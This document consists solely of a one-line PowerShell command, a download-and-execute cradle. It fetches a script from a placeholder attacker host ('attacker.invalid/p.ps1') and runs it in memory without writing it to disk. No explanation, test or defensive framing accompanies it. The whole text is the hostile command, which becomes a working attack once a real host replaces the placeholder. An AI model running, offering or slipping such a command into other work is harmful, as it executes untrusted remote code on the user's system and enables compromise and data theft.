& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://attacker.invalid/p.ps1')))
